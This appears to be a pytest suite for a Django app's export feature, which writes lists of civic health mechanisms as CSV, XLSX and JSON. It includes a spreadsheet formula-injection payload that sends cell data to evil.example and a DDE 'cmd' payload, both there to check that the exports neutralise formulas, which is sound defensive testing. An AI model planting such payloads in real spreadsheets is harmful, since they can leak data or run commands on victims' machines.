"""Exports of the filtered list: CSV, XLSX and JSON, safe to open, and good to import again."""

from __future__ import annotations

import csv
import datetime
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from sauti.mechanisms import exports, imports
from sauti.mechanisms.models import Mechanism

from ..conftest import client_for
from .factories import AssessmentFactory, MechanismFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def export(client, fmt: str, query: str = ""):
    response = client.get(f"{reverse('mechanisms:export')}?format={fmt}{query}")
    assert response.status_code == 200
    return response, content(response)


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.fixture
def mechanisms(organisation):
    kisumu = MechanismFactory(
        name="Kisumu County Health Forum",
        description="Meets every quarter.",
        organisation=organisation,
        level="municipal",
        kind="forum",
        has_budget=True,
        has_office=False,
        year_established=2013,
        last_meeting=datetime.date(2025, 2, 14),
        constituencies=["youth", "women"],
        sources=["County Health Act"],
    )
    thies = MechanismFactory(
        name="Comité régional de santé de Thiès",
        original_language="fr",
        country_id="SN",
        level="regional",
        kind="committee",
        is_verified=True,
    )
    evil = MechanismFactory(name=EVIL, subnational_area="-2+3+cmd|' /C calc'!A0")
    AssessmentFactory(mechanism=kisumu, organisation=organisation, legal=3, resources=0)
    return {"kisumu": kisumu, "thies": thies, "evil": evil}


def test_csv_has_the_template_columns_then_the_readers_columns(client, mechanisms):
    response, data = export(client, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="sauti-mechanisms-{today}.csv"'
    )
    header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header == [*imports.KEYS, "id", "url", "is_verified", "updated_at"] + [
        f"score_{d}"
        for d in ("legal", "inclusion", "influence", "capacity", "accountability", "resources")
    ]
    rows = {row["id"]: row for row in csv_rows(data)}
    kisumu = rows[str(mechanisms["kisumu"].pk)]
    assert kisumu["name"] == "Kisumu County Health Forum"
    assert kisumu["description"] == "Meets every quarter."
    assert kisumu["country"] == "KE"
    assert (kisumu["level"], kisumu["kind"]) == ("municipal", "forum")
    assert (kisumu["has_budget"], kisumu["has_office"], kisumu["has_secretariat"]) == (
        "yes",
        "no",
        "",
    )
    assert kisumu["constituencies"] == "women;youth"
    assert kisumu["last_meeting"] == "2025-02-14"
    assert kisumu["source_title"] == "County Health Act"
    assert kisumu["url"] == f"http://127.0.0.1:8000/en/mechanisms/{mechanisms['kisumu'].pk}/"
    assert (kisumu["score_legal"], kisumu["score_resources"]) == ("3", "0")
    assert kisumu["updated_at"].endswith("Z")
    thies = rows[str(mechanisms["thies"].pk)]
    assert (thies["name"], thies["original_language"]) == (
        "Comité régional de santé de Thiès",
        "fr",
    )
    assert thies["is_verified"] == "yes"


def test_formulas_are_neutralised_in_csv_and_xlsx(client, mechanisms):
    _, data = export(client, "csv")
    evil = {row["id"]: row for row in csv_rows(data)}[str(mechanisms["evil"].pk)]
    assert evil["name"] == "'" + EVIL
    assert evil["subnational_area"] == "'-2+3+cmd|' /C calc'!A0"

    _, data = export(client, "xlsx")
    sheet = load_workbook(io.BytesIO(data), read_only=True, data_only=False).worksheets[0]
    cells = [row for row in sheet.iter_rows() if row[0].value and "HYPERLINK" in row[0].value]
    assert len(cells) == 1
    assert cells[0][0].data_type == "s"  # a string, not a formula
    assert cells[0][0].value == "'" + EVIL


def test_the_filters_of_the_list_apply(client, mechanisms):
    _, data = export(client, "csv", "&country=SN")
    assert [row["name"] for row in csv_rows(data)] == ["Comité régional de santé de Thiès"]
    _, data = export(client, "csv", "&kind=forum&has_budget=yes")
    assert [row["name"] for row in csv_rows(data)] == ["Kisumu County Health Forum"]


def test_hidden_records_are_not_exported(client, mechanisms):
    Mechanism.objects.filter(pk=mechanisms["evil"].pk).update(hidden_at=timezone.now())
    _, data = export(client, "csv")
    assert len(csv_rows(data)) == 2


def test_json_states_the_licence_and_keeps_types(client, mechanisms):
    response, data = export(client, "json", "&country=KE&kind=forum")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].endswith('.json"')
    document = json.loads(data)
    assert document["licence"] == "CC BY 4.0"
    assert document["filters"] == "country=KE&kind=forum"
    (record,) = document["mechanisms"]
    assert record["name"] == "Kisumu County Health Forum"
    assert record["has_budget"] is True
    assert record["has_secretariat"] is None
    assert record["year_established"] == 2013
    assert record["constituencies"] == ["women", "youth"]
    assert record["sources"] == [{"title": "County Health Act", "url": ""}]
    assert record["last_meeting"] == "2025-02-14"
    assert record["score_legal"] == 3
    assert "source_title" not in record


def test_an_empty_list_is_still_a_valid_file(db, client):
    assert json.loads(export(client, "json")[1])["mechanisms"] == []
    assert csv_rows(export(client, "csv")[1]) == []
    sheet = load_workbook(io.BytesIO(export(client, "xlsx")[1])).worksheets[0]
    assert sheet.max_row == 1


def test_xlsx_keeps_numbers_booleans_and_dates_typed(client, mechanisms):
    response, data = export(client, "xlsx", "&kind=forum")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    values = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert values["year_established"] == 2013
    assert values["has_budget"] is True
    assert values["has_secretariat"] is None
    assert values["last_meeting"].date() == datetime.date(2025, 2, 14)
    assert workbook.worksheets[1]["B2"].value == "CC BY 4.0"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_imports_again_without_a_problem(client, mechanisms, member, fmt):
    """Export → reopen with openpyxl (or csv) → import: the same records come back."""
    _, data = export(client, fmt)
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        assert sheet.max_row == 4
    result = imports.validate_upload(
        SimpleUploadedFile(f"export.{fmt}", data), default_language="en"
    )
    assert [str(p) for p in result.problems] == []
    assert len(result.rows) == 3
    by_name = {row["name"]: row for row in result.rows}
    kisumu = by_name["Kisumu County Health Forum"]
    assert kisumu["constituencies"] == ["women", "youth"]
    assert kisumu["has_budget"] is True
    assert kisumu["has_office"] is False
    assert "has_secretariat" not in kisumu
    assert kisumu["last_meeting"] == "2025-02-14"
    assert kisumu["sources"] == [{"title": "County Health Act", "url": ""}]
    # What looked like a formula comes back as the quoted, harmless text the export wrote.
    assert "'" + EVIL in by_name
    assert by_name["'" + EVIL]["subnational_area"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_name["Comité régional de santé de Thiès"]["original_language"] == "fr"
    # every row is already on Sauti: the preview says so before anyone confirms
    notes = imports.warnings(result.rows, result.ignored_columns)
    assert "2 rows have the same name and country" in notes[-1]


def test_the_number_of_queries_does_not_grow_with_the_list(db, client, monkeypatch):
    def queries(count: int) -> int:
        Mechanism.objects.all().delete()
        for n in range(count):
            MechanismFactory(constituencies=["women"], sources=[f"Source {n}"])
        with CaptureQueriesContext(connection) as context:
            export(client, "csv")
        return len(context.captured_queries)

    # One query reads the records (a cursor, in chunks); three fetch what each chunk needs:
    # translations, constituencies and sources.
    assert queries(3) == queries(30) == 1 + 3
    monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
    assert queries(30) == 1 + 3 * 3


def test_the_record_address_follows_the_readers_language(client, mechanisms):
    response = client.get("/fr/mechanisms/export/?format=csv&country=SN")
    (row,) = csv_rows(content(response))
    assert row["url"].endswith(f"/fr/mechanisms/{mechanisms['thies'].pk}/")
    assert row["level"] == "regional"  # codes, not French labels


def test_anyone_may_export(mechanisms, outsider):
    for user in (None, outsider):
        response = client_for(user).get(reverse("mechanisms:export") + "?format=json")
        assert response.status_code == 200


def test_an_unknown_format_is_not_found(db, client):
    assert client.get(reverse("mechanisms:export") + "?format=pdf").status_code == 404


def test_sorted_by_name_each_record_comes_once(client, mechanisms):
    # A record with two translations matches the name ordering twice in SQL.
    MechanismFactory(name="Busia Health Committee", translated={"fr": {"name": "Comité de Busia"}})
    _, data = export(client, "csv", "&sort=name")
    names = [row["name"] for row in csv_rows(data)]
    assert sorted(names) == sorted(set(names))
    assert len(names) == 4


def test_the_search_words_apply(client, mechanisms):
    _, data = export(client, "json", "&q=thi%C3%A8s")
    assert [m["country"] for m in json.loads(data)["mechanisms"]] == ["SN"]
